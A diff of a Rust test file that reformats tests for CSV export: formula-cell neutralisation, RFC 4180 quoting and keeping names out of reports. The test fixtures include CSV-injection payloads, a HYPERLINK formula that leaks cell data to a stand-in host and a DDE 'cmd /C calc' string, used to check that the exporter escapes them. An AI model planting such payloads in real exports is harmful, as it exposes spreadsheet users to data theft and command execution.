@@ -80,7 +80,12 @@ fn hostile_examples() -> String {
         .to_string()
     };
     [
-        row("=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")", "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")", "@SUM(A1).py", "=1+1, \"quoted\"\nsecond line"),
+        row(
+            "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
+            "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
+            "@SUM(A1).py",
+            "=1+1, \"quoted\"\nsecond line",
+        ),
         row("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-x.rs", "@SUM(1)"),
         row("\rcr", "+cmd|' /C calc'!A0", "\tt.c", "-3"),
     ]
@@ -113,8 +118,14 @@ fn csv_export_neutralises_formula_cells() {
     assert!(outputs.len() > 20, "{} CSV files", outputs.len());
     let query = "select example_id, project, file_path, hunk, target from review_examples order by example_id";
     outputs.push(("sql".into(), s.ok(&["sql", query, "--format", "csv"])));
-    outputs.push(("comments".into(), s.ok(&["sql", "select message, author_id from review_comments order by 1", "--format", "csv"])));
-    outputs.push(("examples".into(), s.ok(&["examples", "--version", "v1", "--org", "evil", "--split", "train", "--format", "csv"])));
+    outputs.push((
+        "comments".into(),
+        s.ok(&["sql", "select message, author_id from review_comments order by 1", "--format", "csv"]),
+    ));
+    outputs.push((
+        "examples".into(),
+        s.ok(&["examples", "--version", "v1", "--org", "evil", "--split", "train", "--format", "csv"]),
+    ));
     outputs.push(("halves".into(), s.ok(&["report", "suffix-mix", "--format", "csv"])));
     for (name, text) in &outputs {
         assert_safe(name, text);
@@ -128,7 +139,14 @@ fn csv_export_neutralises_formula_cells() {
         "a CR-led id, quoted and kept whole"
     );
     assert_eq!(rows[2][0], "'+cmd|' /C calc'!A0");
-    assert_eq!(rows[3][..3], ["'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")", "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")", "'@SUM(A1).py"]);
+    assert_eq!(
+        rows[3][..3],
+        [
+            "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
+            "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"open\")",
+            "'@SUM(A1).py"
+        ]
+    );
     let comments = fields(&outputs.iter().find(|(n, _)| n == "comments").unwrap().1);
     // a plain number stays a number (the comment "-3", the author id "-7")
     assert_eq!(comments[1..], [["-3", "-7"], ["'=1+1, \"quoted\"\nsecond line", "-7"], ["'@SUM(1)", "-7"]]);
@@ -165,12 +183,20 @@ fn csv_quotes_newlines_and_quotes_per_rfc4180() {
     // every awkward cell: separators, quotes, CR, LF, CRLF, a lone quote, unicode, empty
     let values = ["a,b", "say \"hi\"", "line1\nline2", "cr\rhere", "crlf\r\nend", "\"", "ünï ✓", "", " lead space"];
     let literal = |v: &str| format!("'{}'", v.replace('\'', "''"));
-    let sql = values.iter().enumerate().map(|(i, v)| format!("select {i} as i, {} as v", literal(v))).collect::<Vec<_>>().join(" union all ") + " order by i";
+    let sql = values
+        .iter()
+        .enumerate()
+        .map(|(i, v)| format!("select {i} as i, {} as v", literal(v)))
+        .collect::<Vec<_>>()
+        .join(" union all ")
+        + " order by i";
     let text = s.ok(&["sql", &sql, "--format", "csv"]);
     let mut reader = csv::Reader::from_reader(text.as_slice());
     assert_eq!(reader.headers().unwrap(), vec!["i", "v"]);
-    let read: Vec<(String, String)> = reader.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[1].to_string())).collect();
-    let expected: Vec<(String, String)> = values.iter().enumerate().map(|(i, v)| (i.to_string(), v.to_string())).collect();
+    let read: Vec<(String, String)> =
+        reader.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[1].to_string())).collect();
+    let expected: Vec<(String, String)> =
+        values.iter().enumerate().map(|(i, v)| (i.to_string(), v.to_string())).collect();
     assert_eq!(read, expected);
     // quoted only where RFC 4180 needs it, CRLF between records
     let text = String::from_utf8(text).unwrap();
@@ -267,7 +293,14 @@ fn reports_carry_no_names_or_emails_from_public_gerrit_data() {
     let out = s.run(&["load", "gerrit-query", page.to_str().unwrap()]);
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
     s.ok(&["refine", "--version", "v1"]);
-    let usernames = String::from_utf8(s.ok(&["sql", "select distinct author_id from review_comments", "--format", "csv", "--csv-raw"])).unwrap();
+    let usernames = String::from_utf8(s.ok(&[
+        "sql",
+        "select distinct author_id from review_comments",
+        "--format",
+        "csv",
+        "--csv-raw",
+    ]))
+    .unwrap();
     for format in ["table", "csv", "json"] {
         let dir = format!("out-{format}");
         s.ok(&["report", "all", "--format", format, "--out", &dir]);
